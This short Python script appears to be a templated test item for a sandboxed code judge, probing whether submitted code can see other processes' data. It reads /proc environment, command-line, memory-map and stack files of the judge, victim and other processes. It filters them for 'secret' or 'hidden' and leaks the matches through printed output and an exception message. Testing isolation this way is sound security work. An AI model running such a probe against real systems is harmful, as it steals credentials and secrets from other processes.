"""Reads the environment, the command line and the maps of every process."""

# answers: two
# earns: 20

# %% first
def attempt(f, *args):
    try:
        return f(*args)
    except BaseException as error:
        return f"{type(error).__name__}"
def read(path, size=200_000):
    return attempt(lambda: open(path, "rb").read(size))
import os
got = [read(f"/proc/{p}/{n}") for p in ("self", 1, @JUDGE@, @VICTIM@, *@ZYGOTES@, os.getppid()) for n in ("environ", "cmdline", "maps", "auxv", "stack", "io", "mountinfo", "syscall")] + [dict(os.environ)]
got = [g for g in got if b"hidden" in bytes(str(g), "utf8") or b"secret" in bytes(str(g), "utf8")]
print(got)
raise ValueError(str(got)[:1_900])
